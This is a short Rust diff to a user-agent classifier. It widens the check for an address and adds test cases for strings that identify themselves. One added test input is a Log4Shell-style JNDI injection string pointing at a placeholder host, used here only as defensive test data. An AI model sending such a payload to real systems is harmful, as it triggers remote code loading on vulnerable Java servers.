@@ -27,7 +27,7 @@ pub(super) fn identifies_itself(user_agent: &str) -> bool {
 fn has_address(lower: &str) -> bool {
     let is_old = || OLD_BROWSERS.iter().any(|old| lower.contains(old));
     let has = |texts: &[&str]| texts.iter().any(|text| lower.contains(text));
-    has(&["+http://", "+https://", "+www.", "mailto:"]) || (has(&["http://", "https://"]) && !is_old())
+    has(&["+http://", "+https://", "+www.", "mailto:"]) || (lower.contains("://") && !is_old())
 }
 
 /// Whether there is an e-mail address. `android@85.0.4183.127`, a version of Ecosia, is none: the last label
@@ -140,6 +140,7 @@ mod tests {
             "X (+http://x.example)",
             "X +https://x.example",
             "X; http://x.example",
+            "${jndi:ldap://x.example}",
             "Mozilla/4.0 (compatible; MSIE 6.0; +http://x.example)",
             "X (+mailto:a@x.example)",
             "X (mailto:a)",
